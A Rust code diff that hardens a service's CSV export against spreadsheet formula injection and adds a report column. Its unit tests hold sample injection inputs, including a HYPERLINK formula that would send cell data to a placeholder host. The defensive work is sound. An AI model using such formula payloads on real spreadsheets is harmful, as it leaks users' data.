@@ -272,11 +272,20 @@ fn report_request(
     ))
 }
 
-fn csv_field(s: &str) -> String {
+/// One CSV cell. A text that a spreadsheet would take for a formula (it starts with `=`, `+`,
+/// `-`, `@`, a tab or a carriage return) is prefixed with `'` so it stays text (OWASP's advice
+/// against CSV injection); numbers are left as they are. Then quoted as RFC 4180 requires.
+pub fn csv_field(s: &str) -> String {
+    let formula = s.starts_with(['=', '+', '-', '@', '\t', '\r']) && s.parse::<f64>().is_err();
+    let s = if formula {
+        format!("'{s}")
+    } else {
+        s.to_owned()
+    };
     if s.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
-        s.to_owned()
+        s
     }
 }
 
@@ -368,6 +377,7 @@ async fn cases_csv(state: web::Data<AppState>, req: HttpRequest, q: Params) -> H
                 "on_time_rate",
                 "median_working_days",
                 "p90_working_days",
+                "awaiting_collection",
             ])
             .map(|s| (*s).to_owned())
             .collect::<Vec<_>>()];
@@ -393,6 +403,7 @@ async fn cases_csv(state: web::Data<AppState>, req: HttpRequest, q: Params) -> H
                 opt(&r.on_time_rate()),
                 opt(&r.median_working_days),
                 opt(&r.p90_working_days),
+                r.awaiting_collection.to_string(),
             ]);
         }
         Ok::<_, crate::error::ApiError>(lines)
@@ -439,5 +450,28 @@ async fn steps_csv(state: web::Data<AppState>, req: HttpRequest, q: Params) -> H
     match run.await {
         Ok(lines) => csv_response(lines, "qyzmet-steps.csv"),
         Err(e) => csv_error(e),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::csv_field;
+
+    #[test]
+    fn a_cell_a_spreadsheet_would_run_stays_text() {
+        assert_eq!(
+            csv_field("=HYPERLINK(\"http://x\"&A2,\"open\")"),
+            "\"'=HYPERLINK(\"\"http://x\"\"&A2,\"\"open\"\")\""
+        );
+        for f in ["+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
+            assert!(
+                csv_field(f).trim_start_matches('"').starts_with('\''),
+                "{f}"
+            );
+        }
+        assert_eq!(csv_field("-1"), "-1");
+        assert_eq!(csv_field("0.75"), "0.75");
+        assert_eq!(csv_field("Атырау"), "Атырау");
+        assert_eq!(csv_field("a,b"), "\"a,b\"");
     }
 }
